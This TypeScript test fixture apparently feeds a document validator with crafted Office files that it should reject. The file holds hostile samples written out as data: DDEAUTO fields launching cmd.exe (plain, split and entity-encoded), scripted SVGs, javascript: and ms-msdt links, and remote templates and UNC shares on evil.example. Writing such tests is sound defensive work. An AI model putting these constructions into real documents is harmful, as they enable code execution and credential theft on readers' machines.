import { aZip } from './files.ts'
import {
  main,
  ole,
  page,
  png,
  program,
  type Row,
  styles,
  stylesPart,
  withBody,
  withPart,
  withRelation,
  withSheetPart,
  withStyles,
} from './hostile-office-build.ts'
import { anOffice, aPart, officeType, relationsOf, sheetPart, typeOf } from './office-files.ts'

const foreignParts: Row[] = [
  ['foreign', 'a text beside the parts', () => withPart('word/notlar.txt', 'text/plain', 'x')],
  ['foreign', 'a text without a type', () => anOffice('docx', { more: [{ name: 'word/notlar.txt', data: 'x' }] })],
  ['foreign', 'a program', () => withPart('word/kurulum.exe', 'application/x-msdownload', program)],
  [
    'foreign',
    'a program that calls itself a part',
    () => withPart('word/styles.xml', `application/x-msdownload`, program),
  ],
  ['foreign', 'a script', () => withPart('word/a.js', 'text/javascript', 'alert(1)')],
  ['foreign', 'a page of the web', () => withPart('word/a.html', 'text/html', page)],
  ['foreign', 'a page to be taken in', () => withPart('word/afchunk.mht', 'message/rfc822', page)],
  [
    'foreign',
    'a text of another kind to be taken in',
    () => withPart('word/afchunk.rtf', 'application/rtf', '{\\rtf1}'),
  ],
  ['foreign', 'an archive', () => withPart('word/a.zip', 'application/zip', aZip([{ name: 'a', data: 'b' }]))],
  ['foreign', 'a PDF', () => withPart('word/a.pdf', 'application/pdf', '%PDF-1.7')],
  [
    'foreign',
    'a part of a sheet in a text',
    () => withPart(sheetPart('workbook.xml'), `${main}x`, aPart('s', 'workbook')),
  ],
  [
    'foreign',
    'a part at the top',
    () => anOffice('docx', { more: [{ name: 'a.xml', data: stylesPart }], types: officeType('a.xml', styles) }),
  ],
  ['foreign', 'a part in a folder of its own', () => withStyles({ name: 'gizli/styles.xml' })],
  ['foreign', 'what a desktop leaves behind', () => withPart('__MACOSX/._a', 'application/xml', 'x')],
  ['foreign', 'a folder of its own', () => anOffice('docx', { more: [{ name: 'gizli/', data: '' }] })],
  ['foreign', 'a folder with bytes in it', () => anOffice('docx', { more: [{ name: 'word/media/', data: 'gizli' }] })],
  [
    'foreign',
    'an add-in',
    () =>
      withPart('word/webextensions/taskpanes.xml', 'application/vnd.ms-office.webextensiontaskpanes+xml', stylesPart),
  ],
  [
    'foreign',
    'keys of its own',
    () => withPart('word/customizations.xml', 'application/vnd.ms-word.keyMapCustomizations+xml', stylesPart),
  ],
  ['foreign', 'a ribbon of its own', () => withPart('customUI/customUI.xml', 'application/xml', '<customUI/>')],
]

const wrongParts: Row[] = [
  [
    'foreign',
    'a page of the web as its styles',
    () => withPart('word/styles.xml', `application/vnd.openxmlformats-officedocument.${styles}`, page),
  ],
  [
    'foreign',
    'a program as its styles',
    () => withPart('word/styles.xml', `application/vnd.openxmlformats-officedocument.${styles}`, program),
  ],
  ['foreign', 'a program as its picture', () => withPart('word/media/image1.png', 'image/png', program)],
  ['foreign', 'a page of the web as its picture', () => withPart('word/media/image1.png', 'image/png', page)],
  [
    'foreign',
    'a picture of the type of a program',
    () => withPart('word/media/image1.png', 'application/octet-stream', png),
  ],
  ['foreign', 'a picture with the name of a program', () => withPart('word/media/image1.exe', 'image/png', png)],
  [
    'foreign',
    'a drawing that runs',
    () =>
      withPart(
        'word/media/image1.svg',
        'image/svg+xml',
        '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
      ),
  ],
  [
    'foreign',
    'a drawing that starts something when it is shown',
    () =>
      withPart('word/media/image1.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  ],
  [
    'foreign',
    'a drawing that fetches',
    () =>
      withPart(
        'word/media/image1.svg',
        'image/svg+xml',
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/a.png"/></svg>',
      ),
  ],
  ['foreign', 'a font that is a program', () => withPart('word/fonts/a.ttf', 'application/x-font-ttf', program)],
  [
    'foreign',
    "a page as the author's own data",
    () => anOffice('docx', { more: [{ name: 'customXml/item1.xml', data: page }] }),
  ],
  [
    'foreign',
    'entities of its own',
    () =>
      withPart(
        'word/styles.xml',
        `application/vnd.openxmlformats-officedocument.${styles}`,
        `<!DOCTYPE a [<!ENTITY b "c">]>${stylesPart.replace(/<\?.*\?>/, '')}`,
      ),
  ],
  [
    'foreign',
    'a text in other letters',
    () => anOffice('docx', { body: Buffer.from(`\uFEFF${stylesPart}`, 'utf16le') }),
  ],
  ['foreign', 'a document of nothing', () => anOffice('docx', { body: '' })],
]

const programs: Row[] = [
  ['macro', 'macros', () => withPart('word/vbaProject.bin', 'application/vnd.ms-office.vbaProject', 'x')],
  ['foreign', 'macros under another name', () => withPart('word/proje.bin', 'application/octet-stream', 'x')],
  ['macro', 'data of macros', () => withPart('word/vbaData.xml', 'application/xml', stylesPart)],
  [
    'macro',
    'a type with macros',
    () => anOffice('docx', { types: typeOf('word/a.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml') }),
  ],
  [
    'macro',
    'a control',
    () => withPart('word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml', stylesPart),
  ],
  ['foreign', 'an object in the text', () => withPart('word/embeddings/oleObject1.bin', ole, 'x')],
  [
    'foreign',
    'a sheet in the text',
    () =>
      withPart(
        'word/embeddings/a.xlsx',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        anOffice('xlsx'),
      ),
  ],
  ['foreign', 'an object with the name of a picture', () => withPart('word/media/image1.png', ole, png)],
  [
    'macro',
    'a field that starts a program',
    () => withBody('<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/>'),
  ],
  [
    'macro',
    'a field in pieces that starts a program',
    () =>
      withBody(
        '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">E cmd </w:instrText></w:r>',
      ),
  ],
  ['macro', 'a field in numbers that starts a program', () => withBody('<w:instrText>&#68;&#x44;E cmd</w:instrText>')],
]

const relations: Row[] = [
  [
    'external',
    'a template from elsewhere',
    () => withRelation('attachedTemplate', 'http://evil.example/a.dotm', 'External'),
  ],
  ['external', 'a picture from elsewhere', () => withRelation('image', 'http://evil.example/a.png', 'External')],
  ['external', 'a frame from elsewhere', () => withRelation('frame', 'http://evil.example/', 'External')],
  ['external', 'an object by a relation', () => withRelation('oleObject', 'embeddings/a.bin')],
  ['external', 'a file by a relation', () => withRelation('package', 'media/image1.png')],
  ['external', 'a piece to be taken in by a relation', () => withRelation('aFChunk', 'styles.xml')],
  ['external', 'a control by a relation', () => withRelation('control', 'styles.xml')],
  ['external', 'a link that runs', () => withRelation('hyperlink', 'javascript:alert(1)', 'External')],
  [
    'external',
    'a link to a tool of the system',
    () => withRelation('hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External'),
  ],
  ['external', 'a link to a share', () => withRelation('hyperlink', '\\\\evil.example\\a', 'External')],
  ['external', 'a link to a share by its scheme', () => withRelation('hyperlink', 'file://evil.example/a', 'External')],
  ['external', 'a link to somewhere by two strokes', () => withRelation('hyperlink', '//evil.example/a', 'External')],
  ['external', 'an address that says it is inside', () => withRelation('image', 'http://evil.example/a.png')],
  ['external', 'a share that says it is inside', () => withRelation('image', '\\\\evil.example\\a.png', 'Internal')],
  ['external', 'a mode that nobody knows', () => withRelation('hyperlink', 'https://a.example', 'external')],
  [
    'external',
    'a relation behind a comment',
    () =>
      anOffice('docx', {
        more: [{ name: 'word/_rels/document.xml.rels', data: relationsOf().replace('</', '<!-- --></') }],
      }),
  ],
  [
    'external',
    'a mode said twice',
    () => withRelation('image', 'http://evil.example/a.png" TargetMode="Internal', 'External'),
  ],
]

const sheetParts: Row[] = [
  [
    'foreign',
    'connections to data',
    () =>
      withSheetPart(
        'xl/connections.xml',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml',
        aPart('s', 'connections'),
      ),
  ],
  [
    'foreign',
    'links to other sheets',
    () =>
      withSheetPart(
        'xl/externalLinks/externalLink1.xml',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
        aPart('s', 'externalLink'),
      ),
  ],
  [
    'foreign',
    'a dialog of the old kind',
    () =>
      withSheetPart(
        'xl/dialogsheets/sheet1.xml',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml',
        aPart('s', 'dialogsheet'),
      ),
  ],
  [
    'foreign',
    "a program as the printer's settings",
    () =>
      withSheetPart(
        'xl/printerSettings/printerSettings1.bin',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings',
        program,
      ),
  ],
  [
    'macro',
    'macro sheets',
    () => withSheetPart('xl/macrosheets/sheet1.xml', 'application/xml', aPart('s', 'worksheet')),
  ],
]

/** Texts with parts that texts do not have. */
export const hostileTextParts = [...foreignParts, ...wrongParts, ...programs, ...relations]

/** Sheets with parts that sheets do not have. */
export const hostileSheetParts = sheetParts
